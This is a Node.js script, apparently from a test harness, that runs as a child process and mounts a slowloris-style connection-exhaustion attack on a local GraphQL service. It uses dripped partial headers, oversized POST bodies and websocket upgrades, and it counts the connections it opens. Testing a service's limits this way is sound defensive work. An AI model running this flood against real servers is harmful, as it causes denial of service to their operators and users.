// The attacker of the row `attack`, a process of its own: attacker.mjs <url> <sockets> <seconds> <access key>
// <connectionUri>. Tells its parent how many connections it has opened.
import { connect } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';

const ATTACKER = '127.0.0.9';

// An attacker has a machine of its own: here it gets what the service, its database and its other clients leave.
setPriority(constants.priority.PRIORITY_LOW);

const HEAD = 'GET /graphql HTTP/1.1\r\nHost: localhost\r\n';

const [url, sockets, seconds, key, uri] = process.argv.slice(2);
const { pathname, search } = new URL(uri);
const BODY = `POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\nX-Api-Key: ${key}\r\n\r\n`;
const UPGRADE = `GET ${pathname}${search} HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`;
const OPENINGS = [HEAD, BODY, UPGRADE, ''];

const end = performance.now() + Number(seconds) * 1_000;
let opened = 0;
await Promise.all(
  Array.from({ length: Number(sockets) }, async (_, i) => {
    for (; performance.now() < end; opened += 1) await hold(OPENINGS[i % OPENINGS.length]);
  }),
);
process.send(opened, () => process.exit());

/** Opens a connection and sends a byte a second until it is cut off, or the end has come. */
async function hold(opening) {
  const socket = connect({ port: Number(new URL(url).port), host: '127.0.0.1', localAddress: ATTACKER });
  const closed = new Promise((resolve) => socket.on('error', () => undefined).once('close', resolve));
  socket.resume().write(opening);
  const drip = setInterval(() => (opening === HEAD || opening === BODY) && socket.write('x'), 1_000);
  const last = setTimeout(() => socket.destroy(), end - performance.now());
  await closed;
  clearInterval(drip);
  clearTimeout(last);
  // A refused one comes back after a while, as a flood from one machine does.
  await pause(100);
}
